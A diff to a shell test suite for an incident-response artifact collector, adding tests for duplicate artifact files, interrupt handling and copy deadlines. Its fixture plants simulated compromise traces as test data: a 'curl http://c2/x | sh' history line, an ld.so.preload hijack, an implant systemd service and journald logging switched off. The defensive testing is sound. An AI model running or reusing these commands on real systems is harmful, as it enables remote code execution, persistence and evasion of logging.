@@ -75,6 +75,7 @@ plant() {
 	    >"$r/srv/alice/.ssh/authorized_keys"
 	printf '/usr/lib/x86_64-linux-gnu/libsystem.so.1\n' >"$r/etc/ld.so.preload"
 	printf '[Service]\nExecStart=/tmp/.x/implant\n' >"$r/etc/systemd/system/evil.service"
+	printf '[Journal]\nStorage=none\n' >"$r/etc/systemd/journald.conf"
 	ln -s /etc/systemd/system/evil.service \
 	    "$r/etc/systemd/system/multi-user.target.wants/evil.service"
 	printf 'curl http://c2/x | sh\n' >"$r/home/bob/.bash_history"
@@ -133,6 +134,12 @@ plant() {
 		assert_eq "$(jq -r '.xattrs[] | select(.name == "user.note") | .hex' <<<"$f")" \
 		    "$(printf 'planted\377' | bytes_hex)"
 	fi
+	# A file two artifacts name is copied once and names both.
+	f=$(rec res/collect.jsonl /etc/systemd/journald.conf)
+	assert_eq "$(jq -c .artifacts <<<"$f")" '["log-config","systemd-config"]'
+	assert_eq "$(jq -s '[.[] | select(.path == "/etc/systemd/journald.conf")] | length' res/collect.jsonl)" 1
+	assert_eq "$(outcome res/collect.jsonl log-config files)" 1
+	assert_eq "$(outcome res/collect.jsonl systemd-config files)" 1
 	# Every catalogue entry has exactly one outcome.
 	assert_eq "$(jq -s '[.[] | select(.type == "outcome")] | length' res/collect.jsonl)" \
 	    "$(cat "$CATALOG"/*.json | jq -s '[.[].artifacts[]] | length')"
@@ -191,6 +198,61 @@ plant() {
 	f=$(rec res/collect.jsonl /var/bad/disk)
 	assert_eq "$(jq -r .errno <<<"$f")" 5
 	jq -e '.error | test("read error at byte")' <<<"$f" >/dev/null
+}
+
+# slow_disk: root/var/bad/disk, 16 MiB served by badfs 300 ms per read
+# request (at least five seconds to copy, whatever the request size).
+slow_disk() {
+	badfs_require
+	need_root
+	head -c 16777216 /dev/urandom >back
+	mkdir -p root/var root/etc/cron.d
+	printf 'x\n' >root/etc/cron.d/job
+	badfs_mount back root/var/bad --slow-ms=300
+	cat >cat.json <<-'EOF'
+	{ "category": "test", "artifacts": [
+	  { "name": "cron", "description": "a small file first", "paths": ["/etc/cron.d/*"] },
+	  { "name": "slow", "description": "a slow file", "paths": ["/var/bad/disk"] },
+	  { "name": "after", "description": "never reached", "paths": ["/var/zz/*"] } ] }
+	EOF
+}
+
+@test "SIGINT stops cleanly: valid records, every entry has an outcome, exit 3" {
+	slow_disk
+	local rc=0 pid
+	"$IRKIT_BIN/ir-collect" --catalog cat.json --root root -o res --no-nice 2>stderr &
+	pid=$!
+	sleep 2
+	kill -INT "$pid"
+	wait "$pid" || rc=$?
+	check_sanitizer stderr
+	assert_eq "$rc" 3
+	grep -q 'interrupted' stderr
+	assert_jsonl res/collect.jsonl
+	assert_eq "$(outcome res/collect.jsonl cron status)" collected
+	assert_eq "$(outcome res/collect.jsonl slow status)" truncated
+	assert_eq "$(outcome res/collect.jsonl slow reason)" interrupted
+	assert_eq "$(outcome res/collect.jsonl after status)" skipped
+	local f
+	f=$(rec res/collect.jsonl /var/bad/disk)
+	assert_eq "$(jq -r .interrupted <<<"$f")" true
+	# What was copied is what the records say, hash and all.
+	assert_eq "$(jq -r .copied <<<"$f")" "$(stat -c %s res/collect/var/bad/disk)"
+	assert_eq "$(jq -r .sha256 <<<"$f")" "$(sha res/collect/var/bad/disk)"
+	[ "$(jq -r .copied <<<"$f")" -lt 16777216 ] || fail "not interrupted"
+}
+
+@test "--deadline and --artifact-deadline stop a slow copy with a clear outcome" {
+	slow_disk
+	collect 3 /dev/null --catalog cat.json --root root -o all --no-nice --deadline 2s
+	assert_eq "$(outcome all/collect.jsonl slow status)" truncated
+	outcome all/collect.jsonl slow reason | grep -q 'deadline'
+	assert_eq "$(outcome all/collect.jsonl after status)" skipped
+	collect 3 /dev/null --catalog cat.json --root root -o one --no-nice --artifact-deadline 2s
+	assert_eq "$(outcome one/collect.jsonl slow status)" truncated
+	outcome one/collect.jsonl slow reason | grep -q 'artifact-deadline'
+	assert_eq "$(outcome one/collect.jsonl cron status)" collected
+	[ "$(rec one/collect.jsonl /var/bad/disk | jq -r .copied)" -lt 16777216 ] || fail "not cut"
 }
 
 @test "a FIFO in a collected directory does not hang" {
